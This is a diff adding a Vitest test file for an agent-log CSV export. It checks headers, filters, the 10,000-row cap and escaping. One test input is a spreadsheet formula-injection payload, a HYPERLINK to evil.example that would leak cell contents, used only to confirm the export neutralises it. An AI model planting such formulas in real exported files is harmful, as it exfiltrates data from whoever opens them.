@@ -1,0 +1,106 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { agents } from '#contract/agents/agents.ts'
+import { json } from '#server/db/database.ts'
+import { engines } from '#tests/engines.ts'
+import { type Actor, type TestApp, testApp } from '#tests/test-app.ts'
+
+/** Reads RFC 4180 as a spreadsheet does. */
+function readCsv(text: string): string[][] {
+  const rows: string[][] = []
+  const pattern = /("(?:[^"]|"")*"|[^",\r\n]*)(,|\r\n)/gy
+  let row: string[] = []
+  for (let match = pattern.exec(text); match; match = pattern.exec(text)) {
+    const [, cell = '', end] = match
+    row.push(cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell)
+    if (end === ',') continue
+    rows.push(row)
+    row = []
+    if (pattern.lastIndex === text.length) return rows
+  }
+  throw new Error('this is no CSV')
+}
+
+describe.each(engines)('the logs as a file, on %s', (engine) => {
+  let app: TestApp
+  let ada: Actor
+  beforeAll(async () => {
+    app = await testApp(engine, { modelRuntime: { sleep: async () => {} } })
+    ada = await app.as('ada')
+    await ada.call(agents.create, { body: { name: 'Lamp, "Lighter"', slug: 'lamp', purpose: 'p' } })
+  })
+  afterAll(() => app.close())
+
+  const download = async (query = '') => {
+    const response = await ada.fetch(`/api/kip/logs/export${query}`)
+    const text = await response.text()
+    const [names = [], ...rows] = readCsv(text)
+    const records = rows.map((row) => Object.fromEntries(row.map((value, index) => [names[index], value])))
+    return { response, text, records }
+  }
+  const ask = (input: string) => ada.call(agents.run, { body: { agentId: 'lamp', input } })
+
+  it('before anything ran it holds the names of its columns', async () => {
+    const { response, records, text } = await download()
+    expect(response.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/)
+    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="keeper-logs-[\d-]+\.csv"$/)
+    expect(response.headers.get('cache-control')).toBe('no-store')
+    expect(records).toEqual([])
+    expect(text).toMatch(/^run_id,created_at,agent,.*,input,output,error\r\n$/)
+  })
+
+  it('holds what the list shows, and no text that a spreadsheet would carry out', async () => {
+    const hostile = '=HYPERLINK("https://evil.example/?q="&A1,"see")'
+    for (const input of [hostile, 'two\nlines, and "quotes"', '-2+3']) {
+      app.passTime(1000)
+      await ask(input)
+    }
+    const { records, text } = await download()
+    expect(records.map((record) => record.input)).toEqual(["'-2+3", 'two\nlines, and "quotes"', `'${hostile}`])
+    const { logs } = (await ada.call(agents.logs)).data
+    expect(records.map((record) => record.run_id)).toEqual(logs.map((log) => log.id))
+    expect(records[0]).toMatchObject({
+      agent: 'Lamp, "Lighter"',
+      agent_version: '1',
+      status: 'success',
+      mock_mode: 'true',
+      user: expect.stringContaining('Ada'),
+      output: JSON.parse(logs[0]?.output ?? '').text,
+      error: '',
+    })
+    expect(text.replaceAll('\r\n', '')).not.toMatch(/(?:^|,)"?[=+@-]/)
+  })
+
+  it('follows the filters of the list', async () => {
+    expect((await download('?q=quotes')).records).toHaveLength(1)
+    expect((await download('?status=error')).records).toEqual([])
+  })
+
+  it('stops after 10,000 rows and says so', async () => {
+    const { db } = app.services
+    const row = await db.selectFrom('runs').selectAll().where('input', '=', '-2+3').executeTakeFirstOrThrow()
+    const older = Array.from({ length: 10_050 }, (_, index) => ({
+      ...row,
+      id: `older-${String(index).padStart(6, '0')}`,
+      input: `older ${index}`,
+      output: null,
+      overrides: null,
+      tools: null,
+      sources: null,
+      notes: json<string[]>([]),
+      model_settings: json(row.model_settings),
+      created_at: row.created_at - (index + 10) * 1000,
+    }))
+    for (let from = 0; from < older.length; from += 150)
+      await db
+        .insertInto('runs')
+        .values(older.slice(from, from + 150))
+        .execute()
+    const { response, records } = await download()
+    expect(records).toHaveLength(10_000)
+    expect(records[0]?.input).toBe("'-2+3")
+    expect(records.at(-1)?.input).toBe('older 9996')
+    expect(response.headers.get('keeper-total')).toBe('10053')
+    expect(response.headers.get('keeper-rows')).toBe('10000')
+    expect(response.headers.get('content-disposition')).toContain('newest-10000')
+  }, 60_000)
+})
